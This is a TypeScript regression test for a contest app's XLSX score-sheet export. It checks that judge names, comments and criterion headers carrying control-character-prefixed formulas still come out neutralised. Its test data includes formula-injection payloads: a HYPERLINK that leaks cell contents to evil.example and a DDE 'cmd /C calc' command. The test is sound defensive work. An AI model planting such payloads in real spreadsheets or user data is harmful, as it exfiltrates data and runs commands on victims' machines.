import ExcelJS from 'exceljs';
import { afterAll, beforeAll, expect, test } from 'vitest';
import {
  createAssignments, createContest, createEntry, createRound, createUnit, createUser, listAllAssignments, saveScoreSheet, setUserName,
} from '@guong-sang/db';
import { login, makeApp, ORGANIZER, organizerEnv, type TestContext } from './helpers.ts';

/*
 * From an outside attack on the score-sheet export: a comment or judge's name stored through the db
 * layer with a control character before its formula (`\b=HYPERLINK(…)`) came out of the XLSX as
 * `=HYPERLINK(…)` with no apostrophe, since the formula rule looked at the text before the XLSX
 * writer dropped the characters XML cannot hold; and the XLSX header (criterion names an organizer
 * types) skipped the rule the CSV header gets. The rule now reads the text as the file holds it
 * (exports/tables.ts, `spreadsheetText`), header included.
 */

let ctx: TestContext;
let organizer: string;
beforeAll(async () => {
  ctx = await makeApp({ env: organizerEnv });
  organizer = await login(ctx.app, ORGANIZER.email, ORGANIZER.password);
});
afterAll(() => ctx.close());

const hostile = ['\u0008=HYPERLINK("https://evil.example/?leak="&A2,"Xem")', '\u001F+cmd|\' /C calc\'!A0', '\u000B-2+3', '\u0001@SUM(A1)'];

test('XLSX: user text that reads as a formula once the XML drops its control characters still gets the apostrophe', async () => {
  const unitId = createUnit(ctx.db, { name: 'Đảng ủy Khối', headcount: 10 }).id;
  const author = createUser(ctx.db, { id: 'author', email: 'tg@example.vn', fullName: 'Tác giả', unitId, passwordHash: 'x' }).id;
  const contest = createContest(ctx.db, {
    slug: 'cong-thuc', title: 'Công thức',
    submissionOpensAt: new Date(Date.UTC(2026, 2, 1)), submissionClosesAt: new Date(Date.UTC(2026, 3, 1)),
  }, { criteria: [{ name: 'Nội dung', weight: 0.5, max: 10 }, { name: '=HYPERLINK("https://evil.example","Tiêu chí")', weight: 0.5, max: 10 }] });
  const round = createRound(ctx.db, { contestId: contest.id, name: 'Sơ khảo', kind: 'preliminary', opensAt: new Date(0), closesAt: new Date(Date.UTC(2030, 0)) });
  hostile.forEach((text, k) => {
    const judge = createUser(ctx.db, { id: `judge-${k}`, email: `gk${k}@example.vn`, fullName: `Giám khảo ${k}`, unitId, passwordHash: 'x' }, ['judge']).id;
    setUserName(ctx.db, judge, text);
    const entryId = createEntry(ctx.db, {
      contestId: contest.id, authorId: author, code: `GS-CT000${k}`, title: 'T', body: '<p>x</p>', wordCount: 1, status: 'submitted',
    }).id;
    createAssignments(ctx.db, [{ roundId: round.id, entryId, judgeId: judge, origin: 'initial', createdAt: new Date() }]);
  });
  for (const [k, assignment] of listAllAssignments(ctx.db, round.id).entries()) {
    saveScoreSheet(ctx.db, { assignmentId: assignment.id, comment: hostile[k]!, status: 'draft', scores: new Map(), at: new Date() });
  }

  const response = await ctx.app.inject({ url: `/api/rounds/${round.id}/export?table=sheets&format=xlsx`, headers: { cookie: organizer } });
  expect(response.statusCode).toBe(200);
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(response.rawPayload as unknown as ArrayBuffer);
  const sheet = workbook.worksheets[0]!;
  const texts: string[] = [];
  sheet.eachRow((row, number) => {
    // The header's criterion names are text an organizer typed; then each row's judge and comment.
    if (number === 1) texts.push(String(row.getCell(5).value));
    else texts.push(String(row.getCell(2).value), String(row.getCell(6).value));
  });
  expect(texts).toHaveLength(1 + 2 * hostile.length);
  // What a spreadsheet sees in each cell: never text that starts like a formula.
  expect(texts.filter((text) => /^[=+\-@\t\r]/.test(text))).toEqual([]);
});
